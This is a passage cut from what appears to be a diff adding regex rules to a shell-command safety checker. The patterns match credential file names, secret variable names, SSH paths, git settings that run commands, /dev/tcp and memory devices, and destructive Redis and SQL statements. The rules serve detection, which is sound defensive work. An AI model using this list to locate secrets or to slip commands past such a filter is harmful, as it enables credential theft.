+(?:HOME|user\\\\.home)[\\"']\\\\s*\\\\)|\\\\b(?:Platform|ProcessInfo\\\\.processInfo|System)\\\\.environment\\\\[[\\"']HOME[\\"']\\\\]|\\\\$(?:::)?env\\\\(HOME\\\\)|\\\\b(?:path\\\\.expand|\
+expanduser|expand-file-name)\\\\s*\\\\(?\\\\s*[\\"']~[\\"']\\\\s*\\\\)","g"],"git_settings":["^core\\\\.(sshcommand|editor|pager|askpass|fsmonitor|gitproxy|alternaterefscomma\
+nd)$|^(sequence\\\\.editor|diff\\\\.external|gpg(\\\\..+)?\\\\.program|pager\\\\..+|credential(\\\\..*)?\\\\.helper)$|^(diff|merge|filter|difftool|mergetool)\\\\..+\\\\.(cmd|comm\
+and|textconv|driver|clean|smudge|process|path)$|^(uploadpack\\\\.packobjectshook|sendemail\\\\.(tocmd|cccmd|headercmd))$","i"],"production_name":["(?:^|[^a-z])(?:pr\
+od|production|live)(?:[^a-z]|$)","i"],"standard_input":["^(?:-|/dev/stdin|/proc/self/fd/0|/dev/fd/0)$"],"shell_program":["^(?:ba|da|z|k|mk|a|rba|ya)?sh$"],"outp\
+ut_device":["^/dev/(?:stdout|stderr|fd/[12])$"],"reliable_command":["^(?::|true|echo|printf|export|declare|local|set|alias|mkdir(?= -p))(?= |$)"],"changing_buil\
+tin":["^(?:set|shopt|source|\\\\.)$"],"unfollowed_state":["\\\\$\\\\[|\\\\$\\\\{\\\\w+!|\\\\$\\\\{\\\\w+\\\\[[^\\\\]\\\\n]{0,60}/|nocasematch|BASHOPTS|posix|POSIX|BASH_FUNC_|\\\\bset -\\\\\
+w*[kA]|\\\\bset -\\\\w+o\\\\b|\\\\bulimit\\\\b|\\\\bexec\\\\b[^;\\\\n]{0,60}&-|\\\\(\\\\(|\\\\[\\\\[[^\\\\]]{0,200}\\\\s-\\\\w\\\\w\\\\s|\\\\w\\\\[[^\\\\]\\\\n]{0,60}[=+-]|\\\\$\\\\{\\\\w+:[^-+?=]|\\\\bIFS=|\\\\b\
+printf -v\\\\w|\\\\bread -\\\\w*a\\\\w|\\\\bfunctions\\\\[|\\\\bset -[oA]\\\\b|\\\\blocal \\\\$|\\\\bTRAP[A-Z]|\\\\bwait -\\\\w*p|(?<!\\\\bsystemctl(?: -[\\\\w=-]+)* )\\\\b(?:disable|enable)\\\\\
+b|\\\\b(?:let|eval|source|unset|integer|float|repeat|always|unfunction|unhash|emulate|zmodload|getopts|coproc|shopt|setopt|DEBUG|RETURN|ERR|BASH_ENV)\\\\b|(?:^|[;&|\
+(\\\\n])[ \\\\t]*\\\\.\\\\s"],"printing_builtin":["^(?:echo|printf)$"],"secret_variable":["^(?:\\\\w+_)?(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|SECRET_KEY|ACCESS_KEY|PRI\
+VATE_KEY|CREDENTIALS?)$"],"special_variable":["^(?:RANDOM|SRANDOM|SECONDS|LINENO|EPOCH\\\\w+|BASH\\\\w*|ZSH\\\\w*|OPT\\\\w+|REPLY|PIPESTATUS|PWD|OLDPWD|[EP]*[UGP]ID|DIR\
+STACK|FUNCNAME|GROUPS|SHELLOPTS|HIST\\\\w+|COMP\\\\w+|MAPFILE|COPROC|IFS|_|status|argv|[a-z]*path|pipestatus|options|commands|functions|aliases|match|reply|signals|\
+history|keymaps|widgets|TTYIDLE|COLUMNS|LINES|HOST\\\\w*|MACHTYPE|OSTYPE|USERNAME|TRY_BLOCK_\\\\w+)$"],"unfollowed_builtin":["^(?:let|eval|source|\\\\.|shopt|enable|s\
+etopt|trap|declare|typeset|builtin|command)$"],"error_exit":["^set (?:-\\\\w*e\\\\w*|-\\\\w*o errexit)(?: -\\\\w+| -o \\\\w+| pipefail)*$"],"waiting_command":["^(?:wait|s\
+leep|usleep|break|exit|return|read|inotifywait|fswatch|select|wait4|flock|nc|curl|wget|timeout)$"],"endless":["^yes\\\\b|^(?:cat|dd|tr|base64|xxd|od) (?!.*\\\\bcoun\
+t=).*/dev/(?:zero|u?random|full)(?: |$)"],"early_code":["\\\\b\\\\w+_ATTRIBUTES\\\\b|\\\\b(?:BEGIN|CHECK|INIT|UNITCHECK|use(?!\\\\s+(?:strict|warnings|utf8|v?5[\\\\d.]*)\\\\s\
+*;)|no|require)\\\\b"],"checking_option":["^(?:c|check|no-prompt|[eElwW]|MO=\\\\w+)$"],"process_name":["[\\"'/|(^](?!name|pid|cmd|exe|comm|info)([a-z][\\\\w.-]{1,30})(\
+?=[\\"'/|)$])","g"],"git_filter":["^(?:stripspace|column|interpret-trailers|mailinfo|fmt-merge-msg)$"],"harmless":["^[\\\\w.-]*%[\\\\d.]*[gfe][\\\\w.-]*$|^[\\\\s,:.-]$"]\
+,"jq_choosing":["(?:[!=<>]=\\\\s*|\\\\[\\\\s*)\\\\$\\\\w+|(?:[!=<>]=\\\\s*|\\\\[\\\\s*|\\\\.\\\\s*)\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:test|startswith|endswith|contains|inside|has|split|r?\
+index|match|capture|scan|[lr]trimstr|error|getpath|del)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:input_filename|str[pf]time)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"","g\
+"],"plain_text":["^[\\\\w\\\\u{FFFC}][\\\\w\\\\u{FFFC}.@:=,-]*$|^(?:[\\\\s,:=@._-]|\\\\\\\\[nt])?$","u"],"jq_making":["\\\\b(?:implode|fromjson|ltrimstr|rtrimstr|ascii_downcase\
+|ascii_upcase|gsub|sub|reverse|tojson|input)\\\\b|@base\\\\d+d|@uri"],"template":["[._-](example|sample|template|dist|tpl|tmpl|defaults?)$"],"ssh":["(^|/)\\\\.ssh(/|$\
+)"],"ssh_settings":["/(config|known_hosts[^/]*|authorized_keys2?|[^/]+\\\\.pub|environment|rc)$"],"memory":["^/proc/[^/]+/mem$|^/dev/k?mem$|^/proc/kcore$"],"temp"\
+:["^/(tmp|var/tmp|var/folders|private/tmp|private/var/folders|dev/shm|run/user/\\\\d+)(/|$)"],"package_cache":["^/var/(cache|lib/apt/lists)/"],"system_tree":["^/(\
+[^/]+|(usr|var|etc|system|library)/[^/]+|usr/lib(32|64)?/[^/]+-linux-gnu[^/]*|var/lib/(dpkg|rpm|pacman|apt))$"],"local_system":["^/(usr/local|usr/src|opt|srv|va\
+r/www|etc/apt/(sources\\\\.list\\\\.d|keyrings|trusted\\\\.gpg\\\\.d|preferences\\\\.d|apt\\\\.conf\\\\.d)|usr/share/keyrings)(/|$)"],"disposable_name":["^\\\\.coverage\\\\..+$|^\
+\\\\.tsbuildinfo$|^\\\\.venv[-_.]?\\\\w[\\\\w.-]*$|^venv-?\\\\d[\\\\d.]*$|^(tmp|temp|test|scratch|demo|dummy|build|dist|out|cmake-build|cache|bazel)[-_.].+$|.+[-_.](tmp|tem\
+p|cache|build|dist|out|output|bak|results?|coverage|artifacts?|generated|objs)$|.+\\\\.(egg-info|dist-info|pyc|pyo|o|obj|a|so|class|log|tmp|temp|bak|orig|rej|swp|\
+swo|tsbuildinfo|gcda|gcno|profraw|prof|out|pid|lock|d|map|cache|snap|tgz|whl|dll|dylib|exe|wasm|min\\\\.js|min\\\\.css|test\\\\.db)$|.+\\\\.rcheck$|^_minted.*|^mymeta\\\\\
+.\\\\*$|.+~$|^\\\\.#.*|^core\\\\.\\\\d+$|^test[_-]?repo.*|^my[-_]?test.*"],"device":["^/dev/(?:(?:tcp|udp|pts|fd)/|(?:stdin|stdout|stderr|tty|fd|null|zero|full|random|u\
+random)$)"],"other_place":["^(?:-h|-u$|--host|--profile|--endpoints|--login-path|\\\\w*(?:HOST|URL|SERVICE)\\\\w*=)|^(?!db[.[][^/:]*\\\\()\\\\S*[.:@=]\\\\S*$|\\\\b(?:connec\
+t|Mongo)\\\\s*\\\\(|\\\\b(?:host|hostaddr|service)=|\\\\\\\\c(?:onnect)?\\\\b|^[^ ]*\\\\uFFFC"],"local_wrapper":["^(?:(?:ba|da|z|a)?sh|env|timeout|nohup|nice|time|xargs|find|\
+awk|python[\\\\d.]*|node|perl|ruby|php|sudo|su)$"],"key_scripts":["\\\\bredis\\\\.p?call\\\\s*\\\\(\\\\s*[\\"']flush(?:all|db)\\\\b|[\\"'](?:KEYS|SCAN|HSCAN|SSCAN|ZSCAN)[\\"'][\\\
+\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|\\\\b(?:for|while)\\\\b[\\\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|[\\"'](?:DEL|UNLINK)[\\"']\\\\s*,\\\\s*unpack\\\\s*\\\\(\\\\s*redis\\\\.p?call\\\\b|\\\\bredi\
+s\\\\.p?call\\\\s*\\\\(\\\\s*(?![\\"'])[\\\\s\\\\S]*\\\\bflush(?:all|db)\\\\b","i"],"credential_name":["^id_(rsa|dsa|ecdsa|ed25519)(_sk)?([._-].*)?(?<!\\\\.pub)$|\\\\.(p12|pfx|jks|k\
+eystore|kdbx|ppk|keychain|keychain-db|key)$|^(?!.*(cert|chain|\\\\bca\\\\b|bundle|public|\\\\bpub\\\\b|\\\\bcrt\\\\b|dhparam|roots?)).*\\\\.pem$|^(app|prod|production|staging\
+|dev|db|my)?[-_.]?(secrets?|passwords?|passwd|tokens?)(\\\\.(prod|production|staging|dev|local|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv|cfg|conf|properties|xml|d\
+b|sqlite)$|^(app|prod|production|staging|dev|db|my)?[-_.]?(api|access)[-_]?keys?(\\\\.(prod|production|staging|dev|local|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv\
+|cfg|conf|properties|xml|db|sqlite)$|^(service[-_]?account|client[-_]?secrets?|gcp[-_]?key|sa[-_]?key|firebase-adminsdk).*\\\\.json$|(^|[-_.])(api|secret|private|\
+access|auth)[-_]?(key|token)s?(\\\\.(json|txt|ya?ml|pem|key|env))?$|^(login data|web data)( for account)?(-journal)?$|^vault[-_]pass(word)?(\\\\.txt)?$|^\\\\.vault[-_\
+]pass.*|\\\\.kubeconfig$"],"fixture_folder":["(^|/)(fixtures?|__fixtures__|testdata|test[-_]data|test[-_]fixtures)/"],"fixture_key":["^(fake|dummy|mock|example|sa\
+mple|test|invalid|expired|self[-_]?signed|server|client|localhost|leaf|agent\\\\d)"],"windows_folder":["[*?[{]|^(?:inetpub|documents and settings|windows|program \
+?files.*|programdata|system.*|users|boot|efi|recovery|perflogs|\\\\$.*)$"],"package_store":["^\\\\.(npm|yarn|pnpm|cargo|rustup|m2|gradle|nuget|cache|node-gyp|electr\
+on|cypress|conda)$"],"counting_flag":["^(?:-q|-c|--quiet|--count)$"],"listing_flag":["^(?:-l|--files-with-matches|--files)$"],"printing_names":["^sed (?:-n (?=.\
+*p \\\\S+$))?(?:-E )?s(.)=\\\\.\\\\*\\\\$?\\\\1=?(?:(?!\\\\1)[^&\\\\\\\\;\\\\n])*\\\\1[gp]?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^jq (?:-\\\\w+ )*(?:\\\\.(?:data|stringData)(?: ?\\\\| ?|\
+ ))?(?:keys(?:_unsorted)?(?:\\\\[\\\\])?|length)$|^cut (?:-z )?(?:-d ?= -f ?1|-f ?1 -d ?=)(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^[ef]?grep (?:-\\\\w*o\\\\w* |-o -E |-E \
+-o )\\\\^(?:export )?(?:\\\\[\\\\^=#?\\\\]|\\\\[\\\\^#=\\\\]|\\\\[(?:A-Z|a-z|0-9|_)+\\\\]|[\\\\w()]|\\\\\\\\w)+(?:[*+]|\\\\\\\\\\\\+)?\\\\)?=?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)*$|^(?:[ef]?gre\
+p|rg)(?: -[nEFrhHswS]+)* (?:\\\\^|\\\\\\\\b)?\\\\(?(?:(?:NEXT_PUBLIC|NUXT_PUBLIC|EXPO_PUBLIC|VITE|REACT_APP|GATSBY|PUBLIC)_\\\\w+|(?:[A-Z\\\\d]+_)+(?:HOST|HOSTNAME|PORT|ENV\
+|MODE|PROVIDER|REGION|LOG_LEVEL|DEBUG|ENABLED|TIMEOUT|VERSION)|(?:NEXT_PUBLIC|NUXT_PUBLIC|EXPO_PUBLIC|VITE|REACT_APP|GATSBY|PUBLIC)_\\\\(\\\\w+(?:\\\\|\\\\w+)*\\\\))(?:\\\\\
+\\\\?\\\\|(?:(?:NEXT_PUBLIC|NUXT_PUBLIC|EXPO_PUBLIC|VITE|REACT_APP|GATSBY|PUBLIC)_\\\\w+|(?:[A-Z\\\\d]+_)+(?:HOST|HOSTNAME|PORT|ENV|MODE|PROVIDER|REGION|LOG_LEVEL|DEBUG\
+|ENABLED|TIMEOUT|VERSION)|(?:NEXT_PUBLIC|NUXT_PUBLIC|EXPO_PUBLIC|VITE|REACT_APP|GATSBY|PUBLIC)_\\\\(\\\\w+(?:\\\\|\\\\w+)*\\\\)))*\\\\)?=?(?: -S| (?:\\\\S*/)?\\\\.env[\\\\w.*-]*|\
+ (?![~/])[\\\\w./*-]+(?<!\\\\.(?:json|ya?ml|toml|ini|cfg|conf|pem|key)))*$|^[gm]?awk -F ?=(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)* (?:NF|\\\\/[^/{}]*\\\\/|!\\\\/\\\\^#\\\\/(?: ?&\
+& ?NF)?)? ?\\\\{ ?print \\\\$1;? ?\\\\}$"],"shows_more":["\\u00a7|\\\\.env\\\\b|\\\\$[\\\\d&~+\`]|\\\\$'|\\\\b(?:eval|exec|compile|Function|globals|locals|vars|getattr|setattr|insp\
+ect|traceback|pdb|breakpoint|__\\\\w+__|arguments|gc|_getframe|dis|ctypes|debugger|binding|instance_variable\\\\w*|local_variables|ObjectSpace|read\\\\w*|open\\\\w*|loa\
+d_dotenv|[dD]otenv\\\\w*|fileinput|linecache|create(?:ReadStream|Interface)|File|IO|subprocess|system|popen|child_process|spawn\\\\w*|exec\\\\w*|import_module|importl\
+ib|runpy|Bun|Deno|throw|except|catch|rescue|globalThis|global|window|self|this|RegExp|Regexp|MatchData|post_match|pre_match|rightContext|leftContext|lastMatch|p\
+rototype|class|refine|import|require)\\\\b|(?<![\\\\w.])(?:len|sorted|list|set|print|str|Boolean|Object|Array|String|console|re|fs)\\\\s*=(?!=)|\\\\bdef (?:len|sorted|l\
+ist|set|print)\\\\b|\\\\bfunction (?:Boolean|Object)\\\\b"],"sourcing":["^reads (?:source|\\\\.) (?:\\\\.?/)?(?:[\\\\w.-]+/)*(?:\\\\.env(?:\\\\.[\\\\w-]+)*|\\\\w[\\\\w-]*\\\\.env)$"],"\
+line_filter":["^(?:cat|wc(?!.* --files0)|[ef]?grep(?! -\\\\S*[oPzr])|rg(?! -\\\\S*[or])|sort(?!.* (?:-\\\\w*o|--output|--files0))|uniq(?! [^-]| .* [^-])|head(?! -c)|t\
+ail(?! -c)|env|(?:docker|podman) (?:inspect|exec (?:-\\\\w+ )*\\\\S+ (?:env|printenv)$)|kubectl get|oc get) ?"],"secret_listing":["^(?:kubectl|oc)$"],"environment_l\
+isting":["^(?:docker|podman) (?:inspect .*\\\\{\\\\{range \\\\.Config\\\\.Env\\\\}\\\\}\\\\{\\\\{println \\\\.\\\\}\\\\}\\\\{\\\\{end\\\\}\\\\}|exec (?:-\\\\w+ )*\\\\S+ (?:env|printenv)$)"],"cou\
+nter":["^(?:wc|sort|head|tail|uniq|[ef]?grep)$"],"file_test":["^(?:test|\\\\[) (?:! )?-[ef] \\\\S*\\\\.env"],"settings_file":["(?:^|/)\\\\.env(?:\\\\.[\\\\w-]+)*$"],"text_f\
+ilter":["^(?:cat|g?sed|envsubst|[gm]?awk|[ef]?grep)$"],"copying":["^writes cp (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.?env[\\\\w.-]*[._-](?:example|sample|template|tpl|dist|defa\
+ults?) (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*$"],"awk_comparison":["(?:\\\\$\\\\w+|\\\\bNR)\\\\s*==\\\\s*(?:\\"[^\\"\\\\n]{2,}\\"|\\\\d+|[A-Za-z]\\\\w*|\\\\u{FFFC})|\\\\bindex\\\\(\
+\\\\s*\\\\$\\\\w+\\\\s*,\\\\s*\\"[^\\"\\\\n]{2,}\\"","u"],"awk_field":["^\\\\s*\\\\{\\\\s*print\\\\s*(?:\\\\$(?:\\\\d|NF))?\\\\s*;?\\\\s*\\\\}\\\\s*$"],"sed_command":["(?<between>[\\\\s;{}!]+|#.*|\\\
+\\d+(?:~\\\\d+)?|\\\\$|,\\\\s*[+~]?|I(?=[\\\\s,!a-z])|(?:(?=\\\\/)|\\\\\\\\)(?<quote>[\\\\s\\\\S])(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\\\\k<quote>)[^\\\\\\\\[])\
+*\\\\k<quote>)|s(?<delimiter>[^\\\\w\\\\s\\\\\\\\]|_)(?<pattern>(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\\\\k<delimiter>)[^\\\\\\\\[])*)\\\\k<delimiter>(?<re\
+placement>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<delimiter>)[^\\\\\\\\])*)\\\\k<delimiter>(?<flags>[gpeimIM\\\\d]*)(?:w(?<target>.*))?|(?<other>y(?<mark>[^\\\\w\\\\s\\\\\\\\])(?:\\\\\\\\[\\\\s\\\\S]|(\
+?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>|[aic](?:\\\\\\\\\\\\n|.)*|[N=gGhHxzF]|l\\\\s*\\\\d*|[:btTv][^;\\\\n}]*)|e(?<command>.*)|[wW](?\
+<output>.*)|[rR](?<input>.*)|(?<select>[pdnPD]|[qQ]\\\\s*\\\\d*)","y"],"group_in_path":["(?<=[\\\\w.\\\\]}])/\\\\(([\\\\w.-]{1,60})\\\\)(?=[/\\\\s]|$)","g"],"brace_count":["^\\\\\
+{-?\\\\d{1,9}\\\\.\\\\.-?\\\\d{1,9}(?:\\\\.\\\\.-?\\\\d{1,6})?\\\\}$"],"brace_sequence":["^(?:(-?\\\\d{1,9})\\\\.\\\\.(-?\\\\d{1,9})|([A-Za-z])\\\\.\\\\.([A-Za-z]))(?:\\\\.\\\\.-?(\\\\d{1,6}))?$\
+"],"brace_literal":["\\\\\\\\[\\\\s\\\\S]?|'[^']*'?|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*\\"?|\\\\x60(?:\\\\\\\\[\\\\s\\\\S]|[^\\\\x60\\\\\\\\])*\\\\x60?|\\\\$\\\\{(?:[^{}]|\\\\{(?:[^{}]|\\\\{[^{}]*\\\\})*\
+\\\\})*\\\\}|\\\\$\\\\((?:[^()]|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))*\\\\)|[^\\\\\\\\'\\"\\\\x60$\\\\x7b\\\\x7d,]+|[\\\\s\\\\S]","y"],"printf_escape":["\\\\\\\\(?:x([\\\\da-fA-F]{1,2})|u([\\\\da-fA-F\
+]{1,4})|U([\\\\da-fA-F]{1,8})|0?([0-7]{1,3})|([\\\\s\\\\S]))","g"],"printf_directive":["%%|%[-+ #0]*(\\\\d*|\\\\*)(?:\\\\.(\\\\d+|\\\\*))?([a-zA-Z])|\\\\\\\\(?:x\\\\p{AHex}{1,2}|u\\\\p\
+{AHex}{1,4}|U\\\\p{AHex}{1,8}|[0-7]{1,3}|.)","gsu"],"format_field":["%%|%(?!x|\\\\d[\\\\da-f])[-+ #0'^:_<>|\\\\d.]*(?:[Cw]?\\\\([^)]*\\\\)|\\\\{[^}]*\\\\}|[acCGg]?[A-Za-z])|%",\
+"g"],"jq_text":["\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"","g"],"jq_interpolation":["\\\\\\\\\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)","g"],"long_line_separator":["\\\\\\\\[\\\\s\\\\S]|'[^']\
+*(?:'|$)|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*(?:\\"|$)|(?<![^\\\\s])#.*|[\\\\n;]|(?<!=)\\\\((?!\\\\))|(?<!\\\\()\\\\)|(?<!>)&(?!>)","g"],"long_line_prefix":["^(?:(?:if|then|elif|el\
+se|do|while|until|time|!|\\\\{)\\\\s+|\\\\(\\\\s*)+"],"here_document":["(<<-?[ \\\\t]*(?:\\\\\\\\|'|\\")?(\\\\w+)[^\\\\n]*)(?:\\\\n(?:(?:[\\\\s\\\\S]*?\\\\n)?[ \\\\t]*\\\\2[ \\\\t]*(?=\\\\n|$)|[\\\
+\\s\\\\S]*)|$)","g"],"always_true":["^(?:(?:\\\\/usr)?(?:\\\\/bin\\\\/)?true|:|\\\\[ (?:1|true|x) \\\\]|test 1|echo.*)$"],"always_false":["^(?:\\\\/bin\\\\/)?false$"],"deleting_\
+call":["\\\\b(?:rm_rf|remove\\\\w*|unlink|delete\\\\w*|RemoveAll|execute|system)\\\\b"],"generated_statement":["'\\\\s*((?:drop|truncate|delete|alter|revoke|grant)\\\\s[^']\
+*)'","gi"],"package_runner":["^(npx|bunx|pnpx|uvx|npm|pnpm|yarn|bun)$"],"host":["^(?:[a-z][a-z0-9+.-]*:\\\\/\\\\/)?(?:[^/@\\\\s]*@)?(\\\\[[0-9a-f:]+\\\\]|[A-Za-z0-9.-]+)(\
+?::\\\\d+)?(?:[/?#:].*)?$"],"whole_folder":["^(\\\\*+|\\\\.\\\\*|\\\\?\\\\*|\\\\.\\\\[[!^]\\\\.\\\\]\\\\*?|\\\\.\\\\?\\\\?\\\\*|\\\\{\\\\*,\\\\.\\\\*\\\\}|\\\\*\\\\.\\\\*|!\\\\(.*\\\\))$"],"making_word":["^(?:c\
+reate|start|up|init|declare|add|run|new|mb|update-ref)$|^--create$"],"referring_word":["^(?:remote|context|config.*)$"],"name_maker":["^(?:volume|network) creat\
+e$"],"new_folder":["^/tmp/tmp[.]\\\\uFFFC(?:/(?!\\\\.\\\\.)[\\\\w.-]+)*$"],"obligation":["(?:needs? to|should|must|has to|have to|(?:is|are) to) be(?: \\\\w+ly)?$"],"list\
+_item":["^[ \\\\t]*(?:[-*+\\u2022\\u2013]|\\\\(?\\\\d{1,3}[.):]|\\\\(?[a-z][.)]|\\\\[[ x]\\\\]|step \\\\d{1,3}[:.)-]?)[ \\\\t]+(?:\\\\[[ x]\\\\][ \\\\t]+)?","i"],"heading":["^[ \\\\t]{0,\
+3}#{1,6}[ \\\\t]+"],"code_fence":["^[ \\\\t]*(\`{3,}|~{3,})[ \\\\t]*([\\\\w+-]*)"],"prompt":["^[ \\\\t]*\\\\$[ \\\\t]+(?=\\\\S)"],"text_word":["(\`{1,2})([^\`\\\\n]{1,2000}?)\\\\1|(?<\
+![\\\\w])[\\"\\u201c]([^\\"\\u201d\\\\n]{1,400})[\\"\\u201d]|(?<![\\\\w])'([^'\\\\n]{1,200})'(?!\\\\w)|[^\\\\s\`\\"\\u201c\\u201d,;:()!?\\u2014]+(?:[:!?][^\\\\s\`\\"\\u201c\\u201d,;()!?\\u20\
+14]+)*|[,;:()!?\\u2014]","gu"],"code_space":["[ \\\\t\\\\r\\\\f\\\\v\\\\\\\\\\\\u00a0]+","y"],"code_name":["[\\\\p{L}_][\\\\p{L}\\\\p{N}_]*[?!]?","uy"],"code_number":["0[xX][\\\\da-fA\
+-F_]+|0[oO]?[0-7_]+(?![.\\\\d])|0[bB][01_]+|\\\\d[\\\\d_]*(?:\\\\.\\\\d+)?(?:[eE][+-]?\\\\d+)?","y"],"code_mark":["\\\\.\\\\.\\\\.|[=!]==|<=>|(?:\\\\*\\\\*|<<|>>|\\\\|\\\\||&&|\\\\?\\\\?|[-+\
+*/.%|&^=!<>:])=|[-=]>|=~|\\\\?\\\\.|([:&|?+<>*.-])\\\\1|\\\\S","uy"],"continuing_mark":["^(?:[.,+*/%&|=<>?:([-]|=>|->|\\\\?\\\\.|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+=|\\\\.\\\\.\\\\.|==|===|::)$\
+"],"continued_mark":["^(?:\\\\.|\\\\?\\\\.|->|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+|\\\\?|:|\\\\.\\\\.\\\\.)$"],"escape":["\\\\\\\\(?:x([\\\\da-fA-F]{2})|u([\\\\da-fA-F]{4})|u\\\\{([\\\\da-fA-F]{1,6})\\\\}\
+|([0-7]{1,3})|(\\\\n)|(.))","gsu"],"quote":["(?<close>['\\"\`])","y"],"prefixed_quote":["(?<prefix>[rbfuRBFUtT]{0,2})(?<close>'''|\\"\\"\\"|'|\\")","y"],"quoting_q":["(\
+qq|qx|qw|qr|q|m|tr|y|s)([^\\\\w\\\\s,;=>)]|\\\\s+[{([<|/!])","y"],"quoting_percent":["(%[wWiIqQxr]?)([({[<|!/])","y"],"quoting_none":["(?!)","y"],"heredoc_perl":["<<~\
+?(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_]\\\\w*))","y"],"heredoc_php":["<<<[ \\\\t]*(?:\\"(\\\\w+)\\"|'(\\\\w+)'|(\\\\w+))","y"],"heredoc_ruby":["<<[~-]?(?:\\"(\\\\w+)\\"|'(\\\\w+)'|([A-Z_\
+]\\\\w*))","y"],"input_line":["<\\\\$?\\\\w*>","y"],"slashed_pattern":["/(?:\\\\\\\\.|\\\\[(?:\\\\\\\\.|[^\\\\]\\\\\\\\\\\\n]){0,300}\\\\]|[^/\\\\\\\\[\\\\n]){0,300}/[a-z]*","y"],"opening_f_st\
+ring":["\\\\{(?!\\\\{)","y"],"opening_template":["\\\\$\\\\{","y"],"opening_hash":["#\\\\{","y"],"opening_dollar":["\\\\{(?=\\\\$)|@\\\\{(?=\\\\[)","y"],"opening_none":["(?!)","y\
+"],"dollar_name":["(@ARGV)|\\\\$(?:\\\\{(\\\\w+)\\\\}|(\\\\w+)(?:->\\\\w+)?)(\\\\[[^\\\\]\\\\n]{0,40}\\\\]|\\\\{[^}\\\\n]{0,40}\\\\})?","y"],"table_deed":["^(?:drop-table|truncate|delete\
+-all|update-all)$"],"taken_back":["^begin;(?:[^/*$'\\"\\\\\\\\-](?!\\\\bcommit\\\\b)){0,2000};rollback;?$","i"],"temporary":["^TEMP(?:ORARY)?$"],"no_rows":["\\\\b(?:LIMIT \
+0|WHERE \\\\(* ?(?:FALSE|0|1 = [02]|0 = 1|1 < > 1))(?! ?[\\\\w=<>.])","i"],"true_condition":["^(?:.*\\\\bor *)?(?:\\\\(* *)(?:1|true|'?(\\\\w+)'? *= *'?\\\\1'?|1 *< *2|not \
+false)(?: *\\\\)*)$","i"],"client_command":["(?:\\\\\\\\!|\\\\.shell|\\\\.system|system)[ \\\\t]+(?<shell>.*)|\\\\\\\\(?:copy|o|w|g)\\\\w*[ \\\\t]*(?:\\\\|[ \\\\t]*(?<piped>.*)|(?:.{0,\
+4000}?\\\\b(?:program|PROGRAM)[ \\\\t]+'(?<program>(?:[^'\\\\n]|'')*)')?.*)","y"],"sql_token":["\\\\s+|--[^\\\\n]*|#(?=\\\\s|$)[^\\\\n]*|/\\\\*!\\\\d*|/\\\\*[\\\\s\\\\S]*?(?:\\\\*/|$)|\\\\\
+*/|(?<quote>['\\"\\\\x60])(?<quoted>(?:(?!\\\\k<quote>)[\\\\s\\\\S]|\\\\k<quote>\\\\k<quote>)*)\\\\k<quote>?|\\\\[(?<name>[^\\\\]]*)\\\\]?|\\\\$(?<tag>\\\\w*)\\\\$(?<text>[\\\\s\\\\S]*?)(?:\\\\\
+$\\\\k<tag>\\\\$|$)|(?<word>[\\\\p{L}_@#$][\\\\p{L}\\\\p{N}_$#]*|\\\\d[\\\\w.]*)|(?<mark>[\\\\s\\\\S])","uy"],"loop_variable":["\\\\bfor(?:each)?[\\\\s(]{0,20}(?:await[\\\\s(]{1,9})?(?\
+:(?:const|let|var|my)\\\\s{1,9})?\\\\(?([\\\\w$, ]{1,100}?)\\\\)?\\\\s{1,9}(?:in|of)\\\\b|\\\\b(\\\\w[\\\\w, ]{0,99})\\\\)?\\\\s{0,9}=>|\\\\|\\\\s*(\\\\w[\\\\w, ]*)\\\\||\\\\bas\\\\s+\\\\$?(\\\\w+)|\\\\\
+blambda\\\\s+(\\\\w+)","g"],"test_clause":["\\\\b(?:if|elif|unless|filter|fnmatch|grep|select|reject|when)\\\\b([^\\\\n;{]{0,300})","g"],"tested_ending":["[\\"']\\\\.([\\\\w.]\
+{1,12})[\\"']|\\\\\\\\\\\\.(?:\\\\(\\\\??:?)?([\\\\w|.\\\\\\\\]{1,60})\\\\)?\\\\$","g"],"tested_name":["(\\\\w+)(?:\\\\.name)?\\\\s*={2,3}\\\\s*[\\"']([\\\\w.-]+)[\\"']","g"],"known_command":["\
+^(?![\\\\s\\\\S]*(?:^|[;&|\\\\n(\`{!]\\\\s*|\\\\b(?:sudo|doas|env|exec|eval|then|do|else|time|nohup|nice|xargs|\\\\w*sh|-c)\\\\s+|\\\\w=\\\\S*\\\\s+)['\\"]?\\\\u{FFFC})\\\\s*[\\\\w./-]","u\
